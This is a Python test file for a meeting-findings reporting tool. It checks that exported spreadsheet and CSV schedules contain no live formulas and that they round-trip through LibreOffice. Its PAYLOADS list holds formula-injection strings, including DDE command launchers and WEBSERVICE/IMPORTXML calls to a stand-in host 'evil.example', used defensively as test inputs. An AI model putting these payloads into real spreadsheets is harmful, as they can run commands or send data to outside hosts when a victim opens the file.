"""The schedule there and back: through LibreOffice, and through what it is known to write."""

import csv
import io
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from reports.answers_returned import returned_answers
from reports.findings_csv import findings_csv, unguarded
from reports.findings_rows import TITLES, finding_rows
from reports.findings_schedule import SHEET, findings_workbook
from scrutiny.findings.files import open_returned
from scrutiny.importing.rejects import guarded
from scrutiny.meetings.meeting import open_meeting
from scrutiny.meetings.observing import observe, raise_finding
from scrutiny.meetings.record import meeting_record
from scrutiny.meetings.responding import responses
from scrutiny.workbooks import read_workbook
from scrutiny.workspace import Workspace
from tests.findings.office import (
    DAY,
    HELD,
    filled,
    number,
    office_with_findings,
    put,
    schedule,
    take,
    told,
)
from tests.helpers import HeldClock, new_office
from tui.documents import document_bytes

PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '=HYPERLINK("http://evil.example","x")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "{=1+1}",
    "=1+1;'",
)


@pytest.fixture
def office(tmp_path: Path) -> Iterator[Workspace]:
    with office_with_findings(tmp_path) as workspace:
        yield workspace


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """Every payload as a finding, its recipient, its answer, its evidence, owner and responder."""
    with new_office(tmp_path_factory.mktemp("hostile"), HeldClock()) as workspace:
        held = open_meeting(workspace, "small", DAY, PAYLOADS[0]).id
        for text in PAYLOADS:
            seen = observe(workspace, held, "question", text)
            raise_finding(workspace, held, seen.id, text, text)

        def change(sheet: object) -> None:
            for place, text in enumerate(PAYLOADS, start=1):
                put(sheet, place, accepted="Rejected")
                for column in (11, 12, 13, 14):
                    cell = sheet.cell(place + 1, column, text.strip())  # type: ignore[attr-defined]  # openpyxl has no types
                    cell.data_type = "s"

        assert take(workspace, filled(schedule(workspace), change)).updated == len(PAYLOADS)
        yield workspace


def test_no_cell_of_the_workbook_is_a_formula_for_two_readers(hostile: Workspace) -> None:
    record = meeting_record(hostile, HELD)
    content = findings_workbook(record)
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 2
        for name in sheets:
            text = package.read(name)
            assert b"<f>" not in text
            assert b"<f " not in text
            assert b"<hyperlink" not in text
        assert not any("vba" in name.casefold() for name in package.namelist())
    wanted = [list(row) for row in finding_rows(record)]
    book = load_workbook(io.BytesIO(content))
    cells = [list(row) for row in book[SHEET].iter_rows(min_row=2)]
    assert all(cell.data_type in ("s", "n") for row in cells for cell in row)
    assert [[cell.value or "" for cell in row] for row in cells] == wanted
    assert read_workbook(content, "x.xlsx")[SHEET][1:] == wanted
    assert {cell for row in wanted for cell in row} >= {text.strip() for text in PAYLOADS[11:]}


def test_no_cell_of_the_csv_begins_like_a_formula(hostile: Workspace) -> None:
    record = meeting_record(hostile, HELD)
    rows = list(csv.reader(io.StringIO(findings_csv(record).decode("utf-8-sig"), newline="")))
    assert rows[0] == list(TITLES)
    live = "=+-@\t\r\n＝＋－＠"
    assert not [cell for row in rows for cell in row if cell and cell[0] in live]
    assert [[unguarded(cell) for cell in row] for row in rows[1:]] == [
        list(row) for row in finding_rows(record)
    ]


def test_hostile_findings_come_back_unedited_from_every_form(hostile: Workspace) -> None:
    record = meeting_record(hostile, HELD)
    for content, name in (
        (findings_workbook(record), "back.xlsx"),
        (findings_csv(record), "back.csv"),
    ):
        taken = take(hostile, content, name)
        assert (taken.updated, taken.unchanged, told(taken)) == (0, len(PAYLOADS), [])


@given(st.text(st.characters(codec="utf-8"), max_size=30))
def test_a_guard_always_comes_off_again(text: str) -> None:
    assert unguarded(guarded(text)) == text or text.startswith("'")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv", ".html", ".docx", ".md"])
def test_every_form_of_the_findings_can_be_written(office: Workspace, suffix: str) -> None:
    assert document_bytes(office, "findings", HELD, suffix)


SOFFICE = shutil.which("soffice") or ""


@pytest.mark.skipif(not SOFFICE, reason="LibreOffice is not installed here")
@pytest.mark.parametrize("form", ["xlsx", "ods"])
def test_libreoffice_saves_a_schedule_that_can_be_taken(
    office: Workspace, tmp_path: Path, form: str
) -> None:
    office.clock.go_on(days=3)  # type: ignore[attr-defined]  # the tests hold the clock

    def change(sheet: object) -> None:
        put(sheet, 1, accepted="Accepted", response="Line one.\nLine two.", date="24/11/2026")
        put(sheet, 4, accepted="Partly accepted", evidence="Order 7", owner="Supt B")

    path = tmp_path / "filled.xlsx"
    path.write_bytes(filled(schedule(office), change))
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            form,
            "--outdir",
            str(tmp_path / "out"),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    saved = tmp_path / "out" / f"filled.{form}"
    taken = take(office, saved.read_bytes(), saved.name)
    assert (taken.updated, told(taken)) == (2, [])
    latest = responses(office)
    assert latest[number(1)].text.show() == "Line one.\nLine two."
    assert latest[number(1)].day == "2026-11-24"
    assert latest[number(4)].evidence.show() == "Order 7"


def written_as_ods(rows: list[list[str]]) -> bytes:
    """Write rows as LibreOffice does: blank cells counted, a line a paragraph, a date a date."""
    told_rows = []
    for row in rows:
        cells, blank = [], 0
        for cell in row:
            if not cell:
                blank += 1
                continue
            if blank:
                cells.append(f'<table:table-cell table:number-columns-repeated="{blank}"/>')
                blank = 0
            if cell == "2026-11-20":
                cells.append(
                    '<table:table-cell office:value-type="date" office:date-value="2026-11-20">'
                    "<text:p>20/11/26</text:p></table:table-cell>"
                )
                continue
            lines = "".join(f"<text:p>{escape(line)}</text:p>" for line in cell.split("\n"))
            cells.append(f'<table:table-cell office:value-type="string">{lines}</table:table-cell>')
        cells.append('<table:table-cell table:number-columns-repeated="16369"/>')
        told_rows.append(f"<table:table-row>{''.join(cells)}</table:table-row>")
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content'
        ' xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
        '<office:body><office:spreadsheet><table:table table:name="Findings">'
        f"{''.join(told_rows)}"
        '<table:table-row table:number-rows-repeated="1048570">'
        '<table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", kind, zipfile.ZIP_STORED)
        package.writestr("content.xml", content)
        package.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest'
            ' xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
            "</manifest:manifest>",
        )
    return saved.getvalue()


def test_what_libreoffice_writes_is_taken_without_it(office: Workspace) -> None:
    rows = [list(row) for row in finding_rows(meeting_record(office, HELD))]
    rows[2][9], rows[2][10], rows[2][14] = "Rejected", "One.\nTwo.", "2026-11-20"
    taken = take(office, written_as_ods([list(TITLES), *rows]), "back.ods")
    assert (taken.updated, told(taken)) == (1, [])
    found = responses(office)[number(3)]
    assert (found.text.show(), found.day) == ("One.\nTwo.", "2026-11-20")


def test_an_error_and_a_comment_of_an_ods_are_seen(office: Workspace) -> None:
    rows = [list(row) for row in finding_rows(meeting_record(office, HELD))]
    rows[2][9], rows[3][9] = "Rejected", "Accepted"
    written = io.BytesIO(written_as_ods([list(TITLES), *rows]))
    saved = io.BytesIO()
    with zipfile.ZipFile(written) as package, zipfile.ZipFile(saved, "w") as changed:
        for each in package.infolist():
            part = package.read(each).replace(
                b'office:value-type="string"><text:p>Rejected</text:p>',
                b'office:value-type="string" office:string-value="" calcext:value-type="error">'
                b"<office:annotation><text:p>See me.</text:p></office:annotation>"
                b"<text:p>#N/A</text:p>",
            )
            changed.writestr(each, part)
    found = returned_answers(open_returned(saved.getvalue(), "back.ods"))
    assert found.notices[0].startswith("1 cell with a comment (J4)")
    taken = take(office, saved.getvalue(), "back.ods")
    assert taken.updated == 1
    assert told(taken) == [
        f"{number(3)}: cell J4 is an error of its formula; write the answer as text"
    ]


def test_a_letter_says_what_the_schedule_says(office: Workspace) -> None:
    letter = document_bytes(office, "findings", HELD, ".md").decode()
    for row in finding_rows(meeting_record(office, HELD)):
        assert row[0] in letter
        assert row[3] in letter
